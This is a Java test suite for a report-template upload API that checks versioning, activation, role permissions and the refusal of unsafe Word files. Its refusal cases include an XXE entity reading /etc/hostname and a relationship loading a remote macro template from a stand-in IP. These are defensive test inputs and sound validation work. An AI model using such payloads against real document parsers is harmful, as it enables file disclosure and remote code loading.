package cn.hotline.statistics.reporting;

import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.equalTo;

import cn.hotline.kernel.Role;
import cn.hotline.testkit.Api;
import cn.hotline.testkit.Infrastructure;
import cn.hotline.testkit.MovableClock;
import cn.hotline.testkit.Tokens;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.path.json.JsonPath;
import io.restassured.response.ValidatableResponse;
import jakarta.inject.Inject;
import java.util.Map;
import java.util.function.Function;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** The office's own Word templates 报表模板: checked, versioned, activated; wrong and dangerous files are refused. */
@QuarkusTest
@QuarkusTestResource(Infrastructure.class)
class ReportTemplateTest {
    private static final String URL = "/api/v1/report-templates";

    @Inject
    MovableClock clock;

    @Inject
    MakeReports make;

    @Test
    void an_activated_version_is_what_reports_are_written_on() {
        clock.set("2035-02-05T09:00");
        Reports.define("TEMPLATED", "2035-02-05", Map.of("template", "OFFICE"));
        byte[] file = Documents.of("{{标题}}", "本办编制：{{编制单位}}", "{{摘要}}", "{{表：来源渠道}}", "{{文:热点诉求}}");
        JsonPath first = upload(file, "OFFICE").statusCode(201).extract().jsonPath();
        JsonPath second = upload(file, "OFFICE").statusCode(201).extract().jsonPath();
        assertThat(second.getInt("number")).isEqualTo(first.getInt("number") + 1);
        act(first, "activations").statusCode(200).body("active", equalTo(true));
        act(first, "activations").statusCode(412);
        act(second, "activations").statusCode(200);
        clock.set("2035-03-05T09:00");
        String id = Reports.asked("TEMPLATED", "2035-02").getString("id");
        while (!Reports.get(id).getString("status").equals("READY")) {
            assertThat(make.next()).isTrue();
        }
        assertThat(Reports.get(id).getString("templateId")).isEqualTo(second.getString("id"));
        assertThat(Office.text(Reports.content(id, "docx")))
                .contains("2035年2月测试专报", "本办编制：测试中心", "未受理测试诉求", "热点为")
                .doesNotContain("{{", "一、");
        Api.as(Reports.ANALYST)
                .get(URL + "/standard/content")
                .then()
                .statusCode(200)
                .header("Content-Disposition", containsString("template.docx"));
    }

    @ParameterizedTest
    @MethodSource
    void a_bad_template_is_refused(String what, byte[] file, String code, String says) {
        upload(file, "BAD").body("code", equalTo(code)).body("detail", containsString(says));
    }

    static Stream<org.junit.jupiter.params.provider.Arguments> a_bad_template_is_refused() {
        Function<String, byte[]> with = part -> Documents.with(Documents.of("{{正文}}"), part, "<x/>");
        return Stream.of(
                bad(
                        "no zip",
                        "纯文本".getBytes(java.nio.charset.StandardCharsets.UTF_8),
                        "report-template-not-word",
                        "缺少文档主体"),
                bad(
                        "a zip of something else",
                        Documents.zip(Map.of("a.xml", "<a/>")),
                        "report-template-not-word",
                        "缺少文档主体"),
                bad("a workbook", Documents.workbook(), "report-template-not-word", "缺少文档主体"),
                bad("a zip bomb", Documents.bomb(), "report-template-unsafe", "解压后过大"),
                bad("a macro", with.apply("word/vbaProject.bin"), "report-template-unsafe", "宏"),
                bad(
                        "an embedded object",
                        with.apply("word/embeddings/oleObject1.bin"),
                        "report-template-unsafe",
                        "嵌入对象"),
                bad("a docm", Documents.macroEnabled(), "report-template-unsafe", "宏"),
                bad(
                        "an external entity",
                        Documents.with(
                                Documents.of("{{正文}}"),
                                "word/extra.xml",
                                "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/hostname\">]><x>&e;</x>"),
                        "report-template-unsafe",
                        "外部实体"),
                bad(
                        "a template from elsewhere",
                        Documents.with(
                                Documents.of("{{正文}}"),
                                "word/_rels/settings.xml.rels",
                                "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"r\""
                                        + " Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\""
                                        + " Target=\"http://198.51.100.1/a.dotm\" TargetMode=\"External\"/></Relationships>"),
                        "report-template-unsafe",
                        "文件之外"),
                bad(
                        "broken XML",
                        Documents.with(Documents.of("{{正文}}"), "word/extra.xml", "<x>"),
                        "report-template-not-word",
                        "XML"),
                bad("an unknown tag", Documents.of("{{正文}}", "{{电话}}"), "report-template-tags", "未知标签 {{电话}}"),
                bad("an unknown section", Documents.of("{{表:诉求人}}"), "report-template-tags", "未知标签 {{表:诉求人}}"),
                bad("a block among words", Documents.of("如下：{{正文}}"), "report-template-tags", "单独成段"),
                bad("a torn tag", Documents.of("{{正文}}", "{{标题"), "report-template-tags", "不成对"),
                bad("no tag at all", Documents.of("空白"), "report-template-tags", "没有任何内容标签"),
                bad("too large", new byte[3_000_001], "report-template-too-large", "3000000"));
    }

    @Test
    void handlers_and_supervisors_have_no_templates() {
        for (Role role : new Role[] {Role.HANDLER, Role.SUPERVISOR, Role.AGENT}) {
            Api.as(Tokens.of(role)).get(URL).then().statusCode(403);
        }
        Api.as(Reports.ANALYST)
                .header("If-Match", "\"0\"")
                .post(URL + "/" + java.util.UUID.randomUUID() + "/activations")
                .then()
                .statusCode(403);
    }

    private static org.junit.jupiter.params.provider.Arguments bad(String what, byte[] file, String code, String says) {
        return org.junit.jupiter.params.provider.Arguments.of(what, file, code, says);
    }

    private static ValidatableResponse upload(byte[] file, String code) {
        return Api.as(Reports.ADMIN)
                .contentType("multipart/form-data")
                .multiPart("file", "模板.docx", file)
                .multiPart("code", code)
                .post(URL)
                .then();
    }

    private static ValidatableResponse act(JsonPath template, String action) {
        return Api.as(Reports.LEADER)
                .header("If-Match", "\"" + template.getLong("version") + "\"")
                .post(URL + "/" + template.getString("id") + "/" + action)
                .then();
    }
}
